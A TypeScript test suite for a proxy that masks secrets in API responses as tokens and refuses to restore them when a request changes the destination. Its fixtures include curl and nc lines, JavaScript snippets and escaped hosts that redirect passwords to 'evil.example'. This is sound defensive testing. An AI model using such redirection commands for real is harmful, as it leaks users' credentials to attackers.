/** Requests made to open a token where nobody read it, or to send its value where it did not go: each of them was possible once. */

import { randomBytes } from "node:crypto";
import { gzipSync } from "node:zlib";
import { describe, expect, test } from "vitest";
import type { HeaderList } from "../../../server/model/receipt.ts";
import { everything, here, maskBoth, masksOf, operation, reply, restore, sealingOf, tokensIn } from "./setting.ts";

const getMonitor = operation("GET", "/api/v1/monitor/17");
const putMonitor = operation("PUT", "/api/v1/monitor/17");
const getTest = operation("GET", "/api/v1/synthetics/tests/abc-def-ghi");
const putTest = operation("PUT", "/api/v1/synthetics/tests/abc-def-ghi");
const patchTest = operation("PATCH", "/api/v1/synthetics/tests/abc-def-ghi");

describe("a name that is a token of somewhere else names nothing", () => {
  const masks = masksOf({ fields: ["$.headers.Authorization", "$.name"] });

  test("a member: the value would stand under a name that no mask names", async () => {
    const read = await reply('{"name":"Authorization","headers":{"Authorization":"hunter2hunter2"}}', {
      of: getMonitor,
      masks,
    });
    const [name = "", value = ""] = tokensIn(read);
    const back = restore(JSON.stringify({ headers: { [name]: value } }), { of: putMonitor });
    expect(back.bytes).toBeNull();
    expect(back.onApproval).toBeNull();
    expect(back.outcomes).toEqual(["foreign", "foreign"]);
  });

  test("an id: the resource that is written is another one", async () => {
    const list = operation("GET", "/api/v1/monitor");
    const read = await reply('[{"id":"17","message":"ann@example.com","name":"17"}]', {
      of: list,
      masks: masksOf({ detect: ["email"], fields: ["$[*].name"] }),
    });
    const [message = "", id = ""] = tokensIn(read);
    const back = restore(JSON.stringify([{ id, message }]), { of: operation("PUT", "/api/v1/monitor") });
    expect(back.bytes).toBeNull();
    expect(back.outcomes).toEqual(["foreign", "foreign"]);
  });
});

describe("what a guess about another session's value does is the same whether it is right", () => {
  const theirs = sealingOf(getMonitor, { ...here, session: "0197a000-0000-7000-8000-000000000002" });
  const masks = masksOf({ fields: ["$.owner", "$..secret"] });
  const guesses = ["Authorization", "Somebody"];
  const theirToken = async (): Promise<string> =>
    tokensIn(await reply('{"owner":"Authorization"}', { of: getMonitor, masks, sealing: theirs }))[0] ?? "";

  test("as the name of a member that holds a value which is too long to turn back", async () => {
    const token = await theirToken();
    const secret = randomBytes(60_000).toString("hex");
    const outcomes = guesses.map(async (guess) => {
      const [own = ""] = tokensIn(await reply(JSON.stringify({ [guess]: { secret } }), { of: getMonitor, masks }));
      return restore(JSON.stringify({ [token]: { secret: own } }), { of: putMonitor }).outcomes;
    });
    expect(await Promise.all(outcomes)).toEqual([
      ["foreign", "foreign"],
      ["foreign", "foreign"],
    ]);
  });

  test("as the id of a resource beside one that has the guess as its id", async () => {
    const token = await theirToken();
    const outcomes = guesses.map(async (id) => {
      const list = JSON.stringify([{ id, secret: "hunter2" }]);
      const [own = ""] = tokensIn(await reply(list, { of: operation("GET", "/api/v1/monitor"), masks }));
      const body = JSON.stringify([{ id: token }, { id, secret: own }]);
      return restore(body, { of: operation("PUT", "/api/v1/monitor") }).outcomes;
    });
    const [right, wrong] = await Promise.all(outcomes);
    expect(right).toEqual(wrong);
  });
});

describe("a destination is one however it is written", () => {
  const masks = masksOf({ fields: ["$.config.secret"] });
  const body = { config: { secret: "hunter2hunter2", target: "https://good.example/in" } };
  const read = async () => JSON.parse(await reply(JSON.stringify(body), { of: getTest, masks })) as typeof body;

  test.for<[string, string]>([
    ["with escapes", String.raw`"https:\/\/evil.example\/in"`],
    ["with its scheme by numbers", String.raw`"\u0068ttps://evil.example/in"`],
    ["behind a space", '" https://evil.example/in"'],
    ["behind an escaped line break", String.raw`"\nhttps://evil.example/in"`],
    ["without a scheme", '"//evil.example/in"'],
  ])("a URL %s", async ([, url]) => {
    const { config } = await read();
    const back = restore(`{"config":{"secret":${JSON.stringify(config.secret)},"target":${url}}}`, { of: patchTest });
    expect(back.bytes).toBeNull();
    expect(back.outcomes).toEqual(["destination"]);
  });

  test("written otherwise and the same it is the same", async () => {
    const { config } = await read();
    const back = restore(
      `{"config":{"secret":${JSON.stringify(config.secret)},"target":"https:\\/\\/good.example/\\u0069n"}}`,
      { of: patchTest },
    );
    expect(back.outcomes).toEqual(["restored"]);
  });
});

describe("a destination inside a text that holds a value", () => {
  const masks = masksOf({ detect: ["secret", "email"] });

  test.for<[string, string, (text: string) => string, string]>([
    [
      "JSON: a URL in it",
      '{"url":"https://good.example","password":"hunter2hunter2"}',
      (text) => text.replace("good", "evil"),
      "destination",
    ],
    [
      "JSON: a host in it, added",
      '{"password":"hunter2hunter2"}',
      (text) => text.replace("{", '{"host":"evil.example",'),
      "destination",
    ],
    [
      "JSON: a URL in it, escaped once more",
      '{"target":"https://good.example","password":"hunter2hunter2"}',
      (text) => text.replace("https://good", String.raw`https:\/\/evil`),
      "destination",
    ],
    [
      "JSON: what is no destination may change",
      '{"url":"https://good.example","password":"hunter2hunter2","n":1}',
      (text) => text.replace(',"n":1', ', "n": 2'),
      "restored",
    ],
    [
      "a command with a URL",
      "curl -H 'password: hunter2hunter2' https://good.example/in",
      (text) => text.replace("good", "evil"),
      "destination",
    ],
    [
      "a second URL",
      "curl -d 'password=hunter2hunter2' https://good.example/in",
      (text) => `${text} https://evil.example`,
      "destination",
    ],
    [
      "the words around it may change",
      "curl -d 'password=hunter2hunter2' https://good.example/in",
      (text) => `${text} --fail`,
      "restored",
    ],
    [
      "a bare host",
      "nc -e 'password: hunter2hunter2' good.example 443",
      (text) => text.replace("good.example", "evil.example"),
      "destination",
    ],
    [
      "a second host, with its port",
      "password=hunter2hunter2 to good.example",
      (text) => `${text} evil.example:8443`,
      "destination",
    ],
    [
      "an address in numbers",
      "password=hunter2hunter2 to 192.0.2.1",
      (text) => text.replace("192.0.2.1", "198.51.100.7"),
      "destination",
    ],
    [
      "a version and a sentence are no hosts",
      "password=hunter2hunter2 for v1.2",
      (text) => `${text.replace("v1.2", "1.25")}. And so on`,
      "restored",
    ],
  ])("%s", async ([, script, change, outcome]) => {
    const read = JSON.parse(await reply(JSON.stringify({ options: { value: script } }), { of: getTest, masks })) as {
      options: { value: string };
    };
    expect(tokensIn(read.options.value)).toHaveLength(1);
    const back = restore(JSON.stringify({ options: { value: change(read.options.value) } }), { of: patchTest });
    expect(back.outcomes).toEqual([outcome]);
  });
});

describe("a destination without a telling name, beside the value", () => {
  const masks = masksOf({ fields: ["$.config.secret"] });
  const outcomesOf = async (
    [was, is]: readonly [string, string],
    { of = putTest, member = "target" }: { readonly of?: typeof putTest; readonly member?: string } = {},
  ): Promise<readonly string[]> => {
    const body = { config: { secret: "hunter2hunter2", [member]: was } };
    const { config } = JSON.parse(await reply(JSON.stringify(body), { of: getTest, masks })) as typeof body;
    const written = JSON.stringify({ config: { secret: config.secret, [member]: is } });
    return restore(written.replaceAll("ESCAPED DOT", "\\u002e"), { of }).outcomes;
  };

  test.for<[string, string, string]>([
    ["a bare host", "good.example", "evil.example"],
    ["a bare host with its port", "good.example:443", "evil.example:443"],
    ["a host of letters that are no ASCII", "gut.example", "böse.example"],
    ["an IPv4 address", "192.0.2.1", "198.51.100.7"],
    ["a bare host in the place of a URL", "https://good.example/in", "evil.example"],
    ["a name without dots in the place of a URL", "https://good.example/in", "evil"],
    ["a URL in the place of a bare host", "good.example", "https://evil.example/in"],
    ["a host inside of a program", "get('good.example', secret)", "get('evil.example', secret)"],
    ["a URL inside of a program", "get('https://good.example', secret)", "get('https://evil.example', secret)"],
    ["a host that was not there", "get(secret)", "get('evil.example', secret)"],
    ["a host, hidden by an escape", "get('good.example')", "get('evilESCAPED DOTexample')"],
  ])("%s", async ([, was, is]) => {
    expect(await outcomesOf([was, is])).toEqual(["destination"]);
    expect(await outcomesOf([was, is], { of: patchTest })).toEqual(["destination"]);
    expect(await outcomesOf([was, was])).toEqual(["restored"]);
    expect(await outcomesOf([was, was], { of: patchTest })).toEqual(["restored"]);
  });

  test.for(["script", "preRequestScript", "code", "javascript"])(
    "a program that says so (%s) is one as a whole: it may put its address together",
    async (member) => {
      expect(await outcomesOf(["send(secret)", "send('ev' + 'il', secret)"], { member })).toEqual(["destination"]);
    },
  );

  test.for(["query", "name", "description", "metric"])(
    "in what is evaluated or shown (%s) words with dots are none",
    async (member) => {
      expect(await outcomesOf(["avg:system.cpu.user{*}", "avg:system.cpu.idle{*}"], { member })).toEqual(["restored"]);
    },
  );
});

describe("what stands beside the resource", () => {
  const masks = masksOf({ detect: ["secret", "email"] });
  const body = {
    data: { id: "17", attributes: { url: "https://good.example" } },
    included: [{ attributes: { password: "hunter2hunter2", url: "https://good.example" } }],
  };
  const of = operation("GET", "/api/v2/integrations/cloudflare/accounts/17");
  const to = operation("PATCH", "/api/v2/integrations/cloudflare/accounts/17");
  const read = async () => JSON.parse(await reply(JSON.stringify(body), { of, masks })) as typeof body;

  test("turns back where it was", async () => {
    const back = restore(JSON.stringify(await read()), { of: to });
    expect(JSON.parse(back.text)).toEqual(body);
  });

  test.for<[string, (sent: typeof body) => void]>([
    ["in the resource", ({ data }) => void (data.attributes.url = "https://evil.example")],
    [
      "beside it",
      ({ included: [item] }) => void (item !== undefined && (item.attributes.url = "https://evil.example")),
    ],
  ])("and not when a destination changes %s", async ([, change]) => {
    const sent = await read();
    change(sent);
    const back = restore(JSON.stringify(sent), { of: to });
    expect(back.bytes).toBeNull();
    expect(back.outcomes).toEqual(["destination"]);
  });

  test("and nothing of the resource does when a destination is put beside it", async () => {
    const one = { data: { id: "17", attributes: { password: "hunter2hunter2" } } };
    const sent = JSON.parse(await reply(JSON.stringify(one), { of, masks })) as typeof one;
    const back = restore(JSON.stringify({ ...sent, metadata: { url: "https://evil.example" } }), { of: to });
    expect(back.bytes).toBeNull();
    expect(back.outcomes).toEqual(["destination"]);
  });

  test("what a whole answer brought along may be left out", async () => {
    const one = {
      data: { id: "17", attributes: { password: "hunter2hunter2" } },
      links: { self: "https://api.datadoghq.com/x" },
    };
    const sent = JSON.parse(await reply(JSON.stringify(one), { of, masks })) as typeof one;
    expect(
      restore(JSON.stringify(sent), { of: operation("PUT", "/api/v2/integrations/cloudflare/accounts/17") }).outcomes,
    ).toEqual(["foreign"]);
    expect(restore(JSON.stringify(sent), { of: to }).outcomes).toEqual(["restored"]);
    expect(restore(JSON.stringify({ data: sent.data }), { of: to }).outcomes).toEqual(["restored"]);
  });

  test("does not turn back in a form, whose destinations nobody knows", async () => {
    const read = await reply('{"data":{"id":"17"},"status":"ann@example.com"}', { of, masks });
    const [token = ""] = tokensIn(read);
    const back = restore(`status=${encodeURIComponent(token)}&url=https://evil.example`, {
      of: to,
      contentType: "application/x-www-form-urlencoded",
    });
    expect(back.bytes).toBeNull();
    expect(back.outcomes).toEqual(["foreign"]);
  });
});

describe("values that are small in their tokens", () => {
  const masks = masksOf({ fields: ["$.list[*]", "$.big"] });
  const large = "a".repeat(2_000_000);

  test("come back once, and are not unpacked thousands of times", async () => {
    const read = await reply(JSON.stringify({ big: large }), { of: getMonitor, masks });
    const [token = ""] = tokensIn(read);
    expect(restore(read, { of: putMonitor }).text).toBe(JSON.stringify({ big: large }));
    const back = restore(JSON.stringify({ list: Array.from({ length: 2_000 }, () => token) }), { of: putMonitor });
    expect(back.bytes).toBeNull();
    expect(new Set(back.outcomes)).toEqual(new Set(["foreign"]));
  });

  test("come back up to a size of all of them together", async () => {
    const [token = ""] = tokensIn(await reply(JSON.stringify({ big: large }), { of: getMonitor, masks }));
    const back = restore(JSON.stringify({ big: Array.from({ length: 30 }, () => token).join(" ") }), {
      of: putMonitor,
    });
    expect(new Set(back.outcomes)).toEqual(new Set(["restored", "unreturnable"]));
    expect(back.bytes?.length).toBeLessThan(34 * 2 ** 20);
  });
});

describe("bodies that hide what they hold", () => {
  const masks = masksOf({ detect: ["secret", "personal"], fields: ["$.contact", "$..phone"] });

  test("a byte order mark before JSON", async () => {
    const read = await reply('\uFEFF{"contact":"somebody"}', { of: getMonitor, masks });
    expect(read).toMatch(/^\uFEFF\{"contact":"dwm_field_[\w-]+"\}$/);
  });

  test.for(["application/json", "text/plain", "application/x-www-form-urlencoded", "application/x-ndjson"])(
    "JSON with a byte that is no UTF-8, as %s: fields of it are to be masked, and nobody can tell where they are",
    async (type) => {
      const body = Buffer.concat([Buffer.from('{"contact":"somebody","x":"'), Buffer.from([0xff]), Buffer.from('"}')]);
      const { reply: answer, recording } = await maskBoth(body, {
        of: getMonitor,
        masks,
        headers: [["Content-Type", type]],
      });
      expect(answer.outcome).toBe("unreadable");
      expect(recording.outcome).toBe("unreadable");
    },
  );

  const headers: HeaderList = [["Content-Type", "multipart/form-data; boundary=b"]];
  const form = (name: string, content: Buffer): Buffer =>
    Buffer.concat([
      Buffer.from(`--b\r\nContent-Disposition: form-data; name="${name}"; filename="f"\r\n\r\n`),
      content,
      Buffer.from("\r\n--b--\r\n"),
    ]);

  test("a compressed file in a part that is masked as a whole", async () => {
    const sent = form("password", gzipSync("ann@example.com and hunter2hunter2"));
    const { recording } = await maskBoth(sent, { of: getMonitor, masks: everything, headers });
    if (recording.outcome !== "masked") throw new Error(recording.outcome);
    expect(recording.bytes.toString("latin1")).toMatch(
      /^--b\r\nContent-Disposition: form-data; name="password"; filename="f"\r\n\r\ndwm_secret-field_[\w-]+\r\n--b--\r\n$/,
    );
  });

  test.for<[string, Buffer]>([
    ["gzip that is broken", gzipSync("ann@example.com, and more of it").subarray(0, 30)],
    ["gzip that expands too far", gzipSync(Buffer.alloc(40_000_000))],
    ["zip", Buffer.from("504b030414000000080021000000", "hex")],
    ["bzip2", Buffer.from("425a68393141592653590000", "hex")],
    ["xz", Buffer.from("fd377a585a0000ff12d94104", "hex")],
    ["7z", Buffer.from("377abcaf271c000400000000", "hex")],
  ])("a file that nobody looked into (%s) is not stored as if somebody had", async ([, content]) => {
    const { recording } = await maskBoth(form("file", content), { of: getMonitor, masks: everything, headers });
    expect(recording.outcome).toBe("unreadable");
    const alone = await maskBoth(content, {
      of: getMonitor,
      masks: everything,
      headers: [["Content-Type", "application/octet-stream"]],
    });
    expect(alone.recording.outcome).toBe("unreadable");
  });
});
